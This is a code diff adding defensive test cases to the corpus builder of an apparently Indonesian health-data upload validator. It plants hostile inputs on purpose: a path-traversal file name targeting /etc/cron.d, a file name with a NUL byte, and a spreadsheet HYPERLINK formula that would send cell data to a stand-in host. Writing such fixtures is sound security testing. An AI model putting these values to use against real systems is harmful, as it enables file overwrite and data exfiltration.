@@ -233,8 +233,38 @@ def make_corpus(folder: str | os.PathLike) -> list[Case]:
 
     # --- a hostile name on a good file: kept under uploads with a safe name, nothing outside
     _w(folder, "good_spm.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,5,lap\n")
-    add(Case("good_spm.csv", "spm", (), name="../../../etc/cron.d/x\x00evil.csv", expect_ok=True))
+    add(Case("good_spm.csv", "spm", (), name="../../../etc/cron.d/x_evil.csv", expect_ok=True))
+    # ... but a NUL or another control character in the name is refused cleanly
+    add(Case("good_spm.csv", "spm", ("nama file", "karakter kendali"), name="x\x00evil.csv"))
+
+    # --- hostile cells (issue 15)
+    # a formula in a column the kind does not even read (a HYPERLINK that would phone home from a later download)
+    wb = xlsxwriter.Workbook(str(folder / "formula_unused_column.xlsx"))
+    ws = wb.add_worksheet("Data")
+    ws.write_row(0, 0, SPM_HEAD.strip().split(",") + ["catatan"])
+    ws.write_row(1, 0, [2024, 1, PKM, "", "spm01", 3, "lap"])
+    ws.write_formula(1, 7, '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', None, "klik")
+    ws.write_row(2, 0, [2024, 2, PKM, "", "spm01", 4, "lap", "baik"])
+    wb.close()
+    add(Case("formula_unused_column.xlsx", "spm", ("rumus", "HYPERLINK"), row=2, column="catatan"))
+    # an unquoted thousands separator in a comma CSV adds a field (and would import 1 instead of 1234)
+    _w(folder, "thousands_extra_field.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,1,234,lap\n2024,2,P3523010101,,spm01,5,lap\n")
+    add(Case("thousands_extra_field.csv", "spm", ("8 kolom", "hanya 7", "ribuan"), row=2, column="kolom_H"))
+    # implausible dates for the kind: staffing dated 1954 (an Excel serial), a balita born in 1900
+    _w(folder, "staffing_1954.csv", TEN_HEAD + f"{PUSTU},perawat,1,20000,SISDMK\n")
+    add(Case("staffing_1954.csv", "tenaga", ("1954-10-03", "paling awal tahun 2000"), row=2, column="per_tanggal"))
+    _w(folder, "balita_1900.csv", EPPGBM_HEAD + "9902011501240001;L;15/01/1900;Kenduruan;Sidohasri;10/02/2025;11,2;84,5\n")
+    add(Case("balita_1900.csv", "eppgbm", ("1900-01-15", "paling awal tahun 2000"), row=2, column="Tgl Lahir"))
+    # a NIK in fullwidth or Arabic-Indic digits rejects its row (not the whole file with a UnicodeEncodeError)
+    _w(folder, "nik_fullwidth.csv", EPPGBM_HEAD + "９９０２０１１５０１２４０００１;L;15/01/2024;Kenduruan;Sidohasri;10/02/2025;11,2;84,5\n"
+       "٩٩٠٢٠١٦٠٠٦٢٣٠٠٠٢;P;20/06/2023;Kenduruan;Sidohasri;10/02/2025;12,1;86,3\n")
+    add(Case("nik_fullwidth.csv", "eppgbm", ("angka selain 0–9",), row=2, column="NIK"))
+    add(Case("nik_fullwidth.csv", "eppgbm", ("angka selain 0–9",), row=3, column="NIK",
+             options={"sumber": "EPPGBM"}))
     return cases
+
+
+EPPGBM_HEAD = "NIK;JK;Tgl Lahir;Kec;Desa/Kel;Tanggal Pengukuran;Berat;Tinggi\n"
 
 
 # ---------------------------------------------------------------- fixture database and a test-only kind
